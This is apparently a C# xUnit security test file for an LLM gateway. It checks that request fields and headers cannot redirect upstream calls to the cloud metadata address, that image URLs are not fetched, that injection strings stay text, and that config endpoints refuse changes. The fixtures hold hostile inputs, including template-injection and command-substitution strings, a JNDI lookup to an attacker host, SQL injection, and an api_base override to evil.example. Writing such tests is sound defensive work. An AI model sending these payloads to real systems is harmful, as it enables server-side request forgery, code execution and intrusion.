using System.Text;
using RouterGen.Gateway.Tests.Support;

namespace RouterGen.Gateway.Tests.Security;

/// <summary>Nothing of a request says where the gateway connects to, or is run as a program's text.</summary>
public sealed class AddressTests
{
    private const string Elsewhere = "http://169.254.169.254/latest/meta-data";

    private static readonly string[] Members =
    [
        "api_base", "base_url", "endpoint", "api_endpoint", "url", "host", "proxy", "http_proxy", "azure_endpoint", "custom_llm_provider", "api_key", "litellm_params", "vertex_location", "aws_bedrock_runtime_endpoint", "region_name",
        "fallbacks", "mock_response", "callbacks", "success_callback", "user_config", "model_list", "extra_headers", "extra_body", "client", "organization",
    ];

    [Theory]
    [InlineData("/v1/chat/completions", "chat")]
    [InlineData("/v1/chat/completions", "claude")]
    [InlineData("/v1/chat/completions", "gemini")]
    [InlineData("/v1/messages", "claude")]
    [InlineData("/v1/messages", "invoke")]
    [InlineData("/v1/responses", "responses")]
    [InlineData("/v1/responses", "chat")]
    public async Task No_member_or_header_moves_a_request(string path, string group)
    {
        var upstream = new Upstream().Then("{}");
        await using World world = await World.StartAsync(upstream);
        string members = string.Concat(Members.Select(static member => $",\"{member}\":\"{Elsewhere}\""));
        string content = path is "/v1/responses" ? "\"input\":\"Hi\"" : "\"messages\":[{\"role\":\"user\",\"content\":\"Hi\"}],\"max_tokens\":9";
        await world.PostAsync(path, $$"""{"model":"{{group}}",{{content}}{{members}}}""", ("x-api-base", Elsewhere), ("api-base", Elsewhere), ("x-forwarded-host", "169.254.169.254"), ("forwarded", "host=169.254.169.254"), ("host", "169.254.169.254"), ("x-litellm-api-base", Elsewhere), ("openai-base-url", Elsewhere));
        Assert.All(upstream.Requests, static request => Assert.Equal(("https", "upstream.example"), (request.Address.Scheme, request.Address.Host)));
        Assert.All(upstream.Requests, static request => Assert.DoesNotContain("169.254", string.Join(' ', request.Headers.SelectMany(static header => header.Value))));
        Assert.All(upstream.Requests, static request => Assert.DoesNotContain("169.254", request.Address.ToString()));
        Assert.NotEmpty(upstream.Requests);
    }

    [Theory]
    [InlineData("/v1/chat/completions", "chat")]
    [InlineData("/v1/chat/completions", "claude")]
    [InlineData("/v1/messages", "chat")]
    [InlineData("/v1/responses", "claude")]
    public async Task An_address_of_an_image_is_handed_on_and_never_fetched(string path, string group)
    {
        var upstream = new Upstream().Then("{}");
        await using World world = await World.StartAsync(upstream);
        string body = path switch
        {
            "/v1/messages" => $$$"""{"model":"{{{group}}}","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"{{{Elsewhere}}}/a.png"}}]}]}""",
            "/v1/responses" => $$"""{"model":"{{group}}","input":[{"role":"user","content":[{"type":"input_image","image_url":"{{Elsewhere}}/a.png"}]}]}""",
            _ => $$$"""{"model":"{{{group}}}","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"{{{Elsewhere}}}/a.png"}}]}]}""",
        };
        await world.PostAsync(path, body);
        Assert.All(upstream.Requests, static request => Assert.Equal("upstream.example", request.Address.Host));
        Assert.Contains(upstream.Requests, static request => request.Body.Contains("169.254.169.254", StringComparison.Ordinal));
    }

    public static readonly TheoryData<string> Programs = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "%{7*7}", "os.environ/HOME", "{0}{1}", "' OR 1=1 --"];

    [Theory, MemberData(nameof(Programs))]
    public async Task A_text_that_looks_like_a_program_stays_a_text(string text)
    {
        var upstream = new Upstream().Then(Wire.Short("chat", "stop"));
        await using World world = await World.StartAsync(upstream, new GatewayOptions { AnswersUnknownPaths = true });
        string json = System.Text.Json.JsonSerializer.Serialize(text);
        Got got = await world.PostAsync("/v1/chat/completions", $$"""{"model":"chat","messages":[{"role":"user","content":{{json}}}],"user":{{json}}}""");
        Assert.Equal(200, got.Status);
        Assert.Equal(text, (string?)System.Text.Json.Nodes.JsonNode.Parse(upstream.Requests.Single().Body)!["messages"]![0]!["content"]);

        // Nor as a model, a path or a header.
        string message = Refusals.Check("/v1/chat/completions", await world.PostAsync("/v1/chat/completions", $$"""{"model":{{json}},"messages":[]}"""), 404);
        Assert.Contains($"'{text}'", message);
        Refusals.Check("/", await world.GetAsync("/" + Uri.EscapeDataString(text).Replace("%2F", "/", StringComparison.Ordinal)), 404);
        Assert.Equal(200, (await world.PostAsync("/v1/chat/completions", """{"model":"chat","messages":[{"role":"user","content":"a"}]}""", ("x-session-id", text), ("user-agent", text))).Status);
    }

    [Theory]
    [InlineData("/config/update")]
    [InlineData("/model/new")]
    [InlineData("/model/update")]
    [InlineData("/v1/mcp/server")]
    [InlineData("/guardrails/apply_guardrail")]
    [InlineData("/prompts/test")]
    [InlineData("/update/ui_settings")]
    [InlineData("/config/pass_through_endpoint")]
    [InlineData("/reload/model_cost_map")]
    public async Task The_configuration_cannot_be_changed_by_a_request(string path)
    {
        var upstream = new Upstream().Then(Wire.Short("chat", "stop"));
        await using World world = await World.StartAsync(upstream, new GatewayOptions { MasterKey = "sk-right", AnswersUnknownPaths = true });
        string before = (await world.GetAsync("/v1/models", ("x-api-key", "sk-right"))).Body;
        foreach (HttpMethod method in (HttpMethod[])[HttpMethod.Post, HttpMethod.Put, HttpMethod.Patch, HttpMethod.Delete])
            Refusals.Check(path, await world.SendAsync(method, path, new StringContent("""{"model_name":"x","litellm_params":{"model":"openai/x","api_base":"http://evil.example"},"general_settings":{"master_key":null}}""", Encoding.UTF8, "application/json"), ("x-api-key", "sk-right")), 404);
        Assert.Equal(before, (await world.GetAsync("/v1/models", ("x-api-key", "sk-right"))).Body);
    }
}
